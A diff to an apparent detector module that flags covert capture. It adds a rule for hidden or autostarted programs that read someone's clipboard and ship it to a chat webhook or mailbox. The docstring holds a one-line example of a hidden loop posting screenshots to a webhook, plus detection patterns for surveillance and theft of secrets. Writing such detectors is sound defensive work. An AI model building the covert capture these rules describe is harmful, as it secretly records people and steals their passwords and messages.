@@ -4,6 +4,8 @@ What it catches
     Screenshots (also by command-line tools: `scrot`, `import -window root`, `gnome-screenshot`,
     `screencapture -x`), webcam frames, audio, location or someone's chat messages (scraped from
     a page) captured in a loop or at startup, hidden, and shipped to a webhook, mail or server.
+    Whatever is on someone's clipboard (passwords, messages), read by a hidden or autostarted
+    program and posted to a chat webhook or mailed.
 
 Why it is a redline (RL-SURVEILLANCE)
     Recording people without their knowledge is surveillance.
@@ -12,7 +14,9 @@ Example
     `while True: ImageGrab.grab().save(p); requests.post(WEBHOOK, files=...)` in a hidden task.
 
 Allowed instead
-    A screenshot tool the user triggers, disclosed monitoring, video-call code.
+    A screenshot tool the user triggers, disclosed monitoring, video-call code, a clipboard
+    manager or a clipboard sync between one's own machines (kept in view, sent to one's own
+    server rather than a chat webhook or a mailbox).
 """
 
 from __future__ import annotations
@@ -28,6 +32,9 @@ _STEALTH = (Cap.HIDE, Cap.AUTORUN, Cap.ENDLESS_LOOP)
 @detector("OUT-COVERT-CAPTURE", redline="RL-SURVEILLANCE")
 def covert_capture(found: Capabilities) -> Detection | None:
     """Capture + channel + stealth (hidden, autostart or endless)."""
+    clipboard = _clipboard_shipped(found)
+    if clipboard is not None:
+        return clipboard
     sources = [c for c in (Cap.SCREEN_CAPTURE, Cap.MESSAGE_SCRAPE, Cap.LOCATION) if c in found]
     if not sources:
         return None
@@ -42,4 +49,15 @@ def covert_capture(found: Capabilities) -> Detection | None:
             core,
             "covert capture sent away",
         )
+    return None
+
+
+def _clipboard_shipped(found: Capabilities) -> Detection | None:
+    """The clipboard read out of sight and shipped to a chat webhook or a mailbox: a clipboard
+    manager keeps its window and its history at home."""
+    channel = [c for c in (Cap.WEBHOOK, Cap.MAIL_SEND) if c in found]
+    stealth = [c for c in (Cap.HIDE, Cap.AUTORUN) if c in found]
+    if Cap.CLIPBOARD_READ in found and channel and stealth:
+        core = (Cap.CLIPBOARD_READ, *channel, *stealth)
+        return supported(found, 0.8, core, "someone's clipboard read out of sight and sent away")
     return None
